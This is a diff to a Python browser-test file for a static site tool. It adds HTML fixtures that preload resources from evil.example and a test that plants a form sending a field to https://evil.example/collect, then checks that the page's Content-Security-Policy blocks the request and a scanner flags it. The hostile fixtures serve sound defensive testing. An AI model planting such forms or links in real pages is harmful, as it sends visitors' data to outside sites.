@@ -6,6 +6,7 @@ from __future__ import annotations
 import contextlib
 import http.server
 import os
+import re
 import shutil
 import threading
 import urllib.parse
@@ -473,6 +474,10 @@ HOSTILE_FILES: list[tuple[str, bytes, bool, str]] = [
      "dialog"),
     ("prefetch.html", b'<link rel="prefetch" href="https://evil.example/p"><p>x', True,
      "request"),
+    ("preload.html", b'<link rel="preload" as="image" href="https://evil.example/i.png"><p>x',
+     True, "request"),
+    ("modulepreload.html", b'<link rel="modulepreload" href="https://evil.example/m.js"><p>x',
+     True, "request"),
 ]
 
 
@@ -519,3 +524,42 @@ def test_hostile_file_runs_in_chromium_and_the_gate_refuses_it(
         assert visit.blocked, f"{rel}: no request left the site"
     found = gates.scan(site)
     assert found and {f.path for f in found} == {rel}, found
+
+
+def test_a_form_posting_off_the_site_is_stopped_by_the_csp_and_refused_by_the_gate(
+        browser: Any, built: Built, tmp_path: Path) -> None:
+    """form-action (issue 15): a form the gates missed still cannot send to another site
+    under the built pages' policy; the same page without it does."""
+    from temoin import gates
+
+    site = tmp_path / "site"
+    shutil.copytree(built.site, site)
+    (site / "SHA256SUMS").unlink()
+    (site / "SHA256SUMS.asc").unlink(missing_ok=True)
+    about = (site / "a-propos" / "index.html").read_text(encoding="utf-8")
+    assert "form-action 'self'" in about and "base-uri 'none'" in about
+    form = ('<form id="leak" method="get" action="https://evil.example/collect">'
+            '<input name="q" value="x"><button id="go">go</button></form>')
+    planted = about.replace("</article>", form + "</article>", 1)
+    (site / "planted").mkdir()
+    (site / "planted" / "index.html").write_text(planted, encoding="utf-8")
+    bare = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", planted)
+    (site / "bare").mkdir()
+    (site / "bare" / "index.html").write_text(bare, encoding="utf-8")
+    left: dict[str, list[str]] = {}
+    with _serve(site) as url:
+        for name in ("planted", "bare"):
+            visit = Visit()
+            ctx = _context(browser, visit, javascript=False)
+            try:
+                page = ctx.new_page()
+                page.goto(f"{url}{name}/", wait_until="load")
+                with contextlib.suppress(Exception):  # the navigation away is aborted
+                    page.click("#go", timeout=5000)
+                page.wait_for_timeout(1500)
+            finally:
+                ctx.close()
+            left[name] = visit.blocked
+    assert left["planted"] == [] and left["bare"], left
+    found = {(f.gate, f.path) for f in gates.scan(site)}
+    assert ("third-party", "planted/index.html") in found
